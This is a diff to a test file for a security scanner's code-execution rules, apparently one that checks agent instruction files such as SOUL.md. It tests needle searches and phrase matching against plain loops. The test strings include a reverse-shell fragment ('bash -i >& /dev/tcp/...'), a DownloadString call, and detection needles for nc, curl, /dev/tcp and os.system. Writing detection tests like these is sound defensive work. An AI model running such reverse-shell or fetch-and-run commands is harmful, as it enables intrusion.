@@ -1,6 +1,8 @@
 // The shared runners' fast paths against the plain loops they replace, on tricky and random inputs.
 import { describe, it, expect } from 'vitest';
-import { fastPaths, rawSourceOf, registerGates, triggersOf } from '../../../scripts/core/scan/rules/code-execution.ts';
+import { fastPaths, rawSourceOf, registerGates, runPhrases, triggersOf } from '../../../scripts/core/scan/rules/code-execution.ts';
+import { createScanContext } from '../../../scripts/core/scan/engine.ts';
+import { generator, randomText } from '../../helpers/random.ts';
 import type { GatedPhraseRule } from '../../../scripts/core/scan/rules/code-execution.ts';
 import { TextView } from '../../../scripts/core/scan/text.ts';
 
@@ -120,8 +122,14 @@ describe('fast path: needles without letters searched in the raw text', () => {
     '2>&1 | tee 2>&1',
     'x.DownloadString(u); bash -i >& /DEV/TCP/h/1 :\u212A :k',
     '',
+    'execexec eexec EXEC xec exe exec',
+    'os.systemos.system sysyssystem system(',
+    'kernel.systemKERNEL.SYSTEM pypython python3 PyThon',
+    'xec',
   ];
-  for (const needle of ['|', '&&', '<(', '$(', '://', '2>&1', 'nc', 'curl', 'k', '.downloadstring', '/dev/tcp/', ':k']) {
+  // needles looked for from a rarer character than their first ("exec" from "xec"), overlapping ones included
+  const rareFirst = ['exec', 'os.system', 'system', 'kernel.system', 'python', 'xec', 'execexec'];
+  for (const needle of ['|', '&&', '<(', '$(', '://', '2>&1', 'nc', 'curl', 'k', '.downloadstring', '/dev/tcp/', ':k', ...rareFirst]) {
     it(`finds "${needle}" where the lower-cased text has it`, () => {
       for (const raw of raws) {
         const src = rawSourceOf(file(raw));
@@ -133,5 +141,81 @@ describe('fast path: needles without letters searched in the raw text', () => {
     const src = rawSourceOf(file('\u0130 NC|'));
     expect(src.lower.length).toBe(src.raw.length);
     expect(fastPaths.needlePlaces(src, '|')).toEqual([4]);
+  });
+});
+
+// A rule whose matches are short looks for their starts only as far before an anchor as a match
+// is long, not the whole window: it must find the same first match as a search of every word start.
+const SHORT_RULE: GatedPhraseRule = {
+  id: 'TEST003',
+  gate: ['zanchor'],
+  starts: ['go', 'goes'],
+  patterns: [/go(?:es)? (?:[a-z]{1,5} ){0,3}zanchor\b/y],
+  contextual: false,
+};
+registerGates([SHORT_RULE]);
+
+describe('fast path: phrase windows no longer than a match', () => {
+  const table = [{ id: 'TEST003', stage: 'security', severity: 'error', category: 'test', description: 'test rule' }] as const;
+  const found = (text: string): number[] => {
+    const out: number[] = [];
+    runPhrases(createScanContext({ 'SOUL.md': text }), (e) => out.push(e.offset ?? -1), [SHORT_RULE], table);
+    return out;
+  };
+  /** The plain search: the first word start where the pattern matches (texts are ASCII and lower case, so offsets agree). */
+  const slowFirst = (text: string): number[] => {
+    const norm = new TextView(text).norm;
+    expect(norm).toBe(text);
+    for (const p of wordStarts(text)) {
+      const re = new RegExp(SHORT_RULE.patterns[0]!.source, 'y');
+      re.lastIndex = p;
+      if (slowStartWord(SHORT_RULE.starts!, text, p) && re.test(text)) return [p];
+    }
+    return [];
+  };
+  it('finds a match that reaches its anchor with the longest filler', () => {
+    const text = 'x '.repeat(70) + 'goes abcde abcde abcde zanchor';
+    expect(found(text)).toEqual([140]);
+  });
+  it('agrees with a search of every word start on random texts', () => {
+    let hits = 0;
+    const rand = generator(3);
+    for (let k = 0; k < 600; k++) {
+      const text = randomText(rand, ['go ', 'goes ', 'zanchor ', 'abcde ', 'ab ', 'x ', '-', 'go-', 'abcdef '], 30).trim();
+      const slow = slowFirst(text);
+      expect(found(text), JSON.stringify(text)).toEqual(slow);
+      hits += slow.length;
+    }
+    expect(hits).toBeGreaterThan(20);
+  });
+});
+
+// A view without segments runs only the rules it opens, walked from its opened rule numbers; the
+// findings come out in rule order as the loop over every rule gave them.
+const LIST_RULES: GatedPhraseRule[] = ['alphaq', 'betaq', 'gammaq', 'deltaq'].map((word, k) => ({
+  id: `TEST01${k}`,
+  anchor: 'start',
+  gate: [word],
+  patterns: [new RegExp(`${word} now`, 'y')],
+  contextual: false,
+}));
+registerGates(LIST_RULES);
+
+describe('fast path: only the opened rules of a list are walked', () => {
+  const table = LIST_RULES.map((r) => ({ id: r.id, stage: 'security', severity: 'error', category: 'test', description: r.id }) as const);
+  const codes = (files: Record<string, string>): string[] => {
+    const out: string[] = [];
+    runPhrases(createScanContext(files), (e) => out.push(`${e.file}:${e.code}`), LIST_RULES, table);
+    return out;
+  };
+  it('reports the opened rules in rule order', () => {
+    expect(codes({ 'SOUL.md': 'deltaq now, gammaq now and alphaq now; betaq later' })).toEqual(['SOUL.md:TEST010', 'SOUL.md:TEST012', 'SOUL.md:TEST013']);
+  });
+  it('still finds a rule opened only in a decoded segment', () => {
+    const payload = Buffer.from('betaq now and more text to decode').toString('base64');
+    expect(codes({ 'SOUL.md': `gammaq now. Decode this: ${payload}` })).toEqual(['SOUL.md:TEST011', 'SOUL.md:TEST012']);
+  });
+  it('reports nothing for a file that opens none', () => {
+    expect(codes({ 'SOUL.md': 'alpha beta gamma delta now' })).toEqual([]);
   });
 });
